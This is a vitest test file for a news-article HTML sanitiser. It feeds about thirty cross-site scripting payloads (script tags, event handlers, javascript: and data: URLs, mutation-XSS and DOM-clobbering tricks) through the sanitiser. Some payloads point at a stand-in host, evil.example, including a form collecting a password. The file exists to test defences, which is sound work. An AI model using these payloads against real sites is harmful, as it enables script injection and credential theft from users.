import { fromHtml } from "hast-util-from-html";
import { describe, expect, test } from "vitest";
import { sanitise } from "#server/news/sanitise";

const attacks = {
  "a script": "<p>a</p><script>alert(1)</script>",
  "a script in odd case, unclosed": "<ScRiPt src=//evil.example/x.js",
  "a script inside what is dropped": "<div><section><script>alert(1)</script></section></div>",
  "an image's error": '<img src=x onerror="alert(1)">',
  "an image without spaces": "<img/src=x/onerror=alert(1)>",
  "a handler on an allowed element": '<p onclick="alert(1)" onmouseover=alert(1)>hover</p>',
  "a drawing's load": '<svg onload="alert(1)"><circle r="9"/></svg>',
  "a script inside a drawing": "<svg><script>alert(1)</script></svg>",
  "an animated link":
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  "a script as a link": '<a href="javascript:alert(1)">x</a>',
  "the same with a line break": '<a href="java\nscript:alert(1)">x</a>',
  "the same in entities": '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  "the same after control characters": '<a href="\u0001 javascript:alert(1)">x</a>',
  "another script language": '<a href="vbscript:msgbox(1)">x</a>',
  "a page as a link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "a frame": '<iframe srcdoc="<script>alert(1)</script>" src="https://evil.example"></iframe>',
  "an embedded object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  "a form that sends elsewhere":
    '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
  "a style sheet":
    "<style>@import 'https://evil.example/x.css'; p { background: url(https://evil.example) }</style>",
  "a style": '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  "a refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "a base and a sheet":
    '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  "a body with a handler": '<html><body onload="alert(1)"><p>x</p></body></html>',
  "a mutation through formulas":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "a mutation through noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "a mutation through raw text":
    "<svg><textarea><img src=x onerror=alert(1)></textarea></svg><xmp><img src=x onerror=alert(1)></xmp>",
  "a template": "<template><img src=x onerror=alert(1)></template>",
  "an opened detail": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  "a comment for old browsers":
    "<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
  "a clobbered name": '<a id="location" name="cookie" href="/ok">x</a><p id="main">x</p>',
  "a class of ours": '<p class="toast fixed inset-0" data-x="1" tabindex="1" contenteditable>x</p>',
  "a link that says nothing of itself":
    '<a href="https://ok.example" target="_blank" ping="https://evil.example">x</a>',
};

const ELEMENTS = new Set(
  (
    "h2 h3 h4 p ul ol li dl dt dd blockquote pre hr br a strong em b i s code kbd sub sup small abbr time " +
    "table caption thead tbody tfoot tr th td"
  ).split(" "),
);
const ATTRIBUTES = new Set(["href", "title", "start", "colSpan", "rowSpan", "scope", "dateTime"]);

type Root = ReturnType<typeof fromHtml>;
type Node = Root | Root["children"][number];
type Element = Extract<Node, { type: "element" }>;

function elementsOf(node: Node): Element[] {
  const below = "children" in node ? node.children.flatMap((child) => elementsOf(child)) : [];
  return node.type === "element" ? [node, ...below] : below;
}

describe("nothing that runs, loads or leads astray is left of [280]", () => {
  test.each(Object.entries(attacks))("%s [208]", (_name, attack) => {
    const html = sanitise(`<p>before</p>${attack}`);
    expect(html).toContain("<p>before</p>");
    // Read again as a browser reads it, since a browser is what it is for.
    for (const { tagName, properties } of elementsOf(fromHtml(html, { fragment: true }))) {
      expect(ELEMENTS).toContain(tagName);
      for (const name of Object.keys(properties)) expect(ATTRIBUTES).toContain(name);
      expect(String(properties.href ?? "#")).toMatch(/^(https?:\/\/|mailto:|tel:|\/[^/]|#)/);
    }
    expect(html).not.toContain("<!--");
    expect(html).not.toMatch(/alert\(1\).*<\/script|@import|msgbox/);
    expect(sanitise(html), "a second time changes nothing").toBe(html);
  });
});

test("what articles are made of stays as it is [280]", () => {
  const html =
    "<h2>Title</h2>\n<p>Text with <strong>weight</strong>, <em>voice</em>, <code>LPA:1$x$y</code> and <kbd>*#06#</kbd>.</p>\n" +
    '<ol start="5"><li>five</li></ol><ul><li>one</li></ul><blockquote><p>said</p></blockquote>\n' +
    '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><th scope="row">b</th><td colspan="2">c</td></tr></tbody></table>\n' +
    '<p><a href="/plans">ours</a> <a href="https://other.example/?a=1&#x26;b=2">theirs</a> <a href="mailto:a@b.example">mail</a></p><pre><code>x\n  y</code></pre>';
  expect(sanitise(html)).toBe(html);
});

test("text that looks like HTML stays text [280]", () => {
  expect(sanitise("<p>1 &lt; 2 &amp;amp; 3 > 2</p>")).toBe("<p>1 &#x3C; 2 &#x26;amp; 3 > 2</p>");
});

test.each([
  "",
  "plain",
  "<p>unclosed",
  "</p></p>",
  "<",
  "<a",
  "&",
  "\u0000",
  "<td>cell without a table</td>",
])("odd input is survived: %j", (html) => {
  expect(sanitise(sanitise(html))).toBe(sanitise(html));
});
